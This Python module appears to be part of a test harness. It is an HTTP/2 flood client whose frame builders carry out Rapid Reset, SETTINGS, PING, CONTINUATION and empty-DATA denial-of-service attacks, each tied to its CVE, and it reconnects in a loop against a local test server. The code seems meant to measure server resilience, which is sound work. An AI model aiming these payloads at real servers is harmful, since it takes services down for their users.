#!/usr/bin/env python3
"""A client that does over HTTP/2 what costs it little and a server much, as fast as it can.

Run as a program: floods.py PORT ROOT KEY KIND. It begins a new connection whenever it was sent away,
until it is killed.
"""

import os
import ssl
import sys

from load import HTTP2_PREFACE, frame, head_block
from servers import LOAD_PROCESSOR, Server, client_context, connect

# Another network than that of the well-behaved clients.
SOURCE = "127.0.1.1"
# Frames in a write, and how many writes a connection gets at most: stream numbers have an end.
BATCH, BATCHES = 100, 10_000


def reset(block, first):
    """Requests that are taken back at once (CVE-2023-44487)."""
    return b"".join(frame(1, 4, stream, block) + frame(3, 0, stream, bytes([0, 0, 0, 8]))
                    for stream in range(first, first + 2 * BATCH, 2))


def settings(block, first):
    """SETTINGS, each to be acknowledged (CVE-2019-9515)."""
    return frame(4, 0, 0, b"\0\3\0\0\0\144") * BATCH


def ping(block, first):
    """PING, each to be answered (CVE-2019-9512)."""
    return frame(6, 0, 0, bytes(8)) * BATCH


def continuation(block, first):
    """Fields that have no end (CVE-2024-27316)."""
    piece = (b"\0\1a" + b"\1b") * BATCH
    head = frame(1, 0, 1, block) if first == 1 else b""
    return head + frame(9, 0, 1, piece) * BATCH


def empty(block, first):
    """A body of DATA frames with nothing in them (CVE-2019-9518)."""
    head = frame(1, 4, 1, block) if first == 1 else b""
    return head + frame(0, 0, 1, b"") * BATCH


KINDS = {kind.__name__: kind for kind in (reset, settings, ping, continuation, empty)}


class Flood:
    """The client as a process of its own, on the load's processor, which it leaves to the load whenever
    that wants it: elsewhere it would have a machine of its own."""

    def __init__(self, folder, root, port, key, kind):
        self.server = Server(f"flood-{kind}", [
            "nice", "-n", "19", sys.executable, os.path.abspath(__file__), str(port), root, key,
            kind],
            LOAD_PROCESSOR, folder)

    def stop(self):
        """Raises if it had ended by itself: then nothing was flooded."""
        status = self.server.process.poll()
        self.server.stop()
        if status is not None:
            raise RuntimeError(f"the flood ended with {status}: see {self.server.log_path}")


def flood(port, context, block, make):
    """One connection, until the server ends it."""
    try:
        with connect(port, context, source=SOURCE) as connection:
            connection.sendall(HTTP2_PREFACE)
            connection.settimeout(1.0)
            for batch in range(BATCHES):
                connection.sendall(make(block, 1 + 2 * BATCH * batch))
                drain(connection)
    except (OSError, EOFError):
        pass  # Sent away.


def drain(connection):
    """Takes what came, so that nothing is held up by us."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
        raise EOFError
    except ssl.SSLWantReadError:
        pass
    connection.settimeout(1.0)


def main(port, root, key, kind):
    context = client_context(root)
    context.set_alpn_protocols(["h2"])
    block = head_block(key, "/score")
    while True:
        flood(int(port), context, block, KINDS[kind])


if __name__ == "__main__":
    main(*sys.argv[1:])
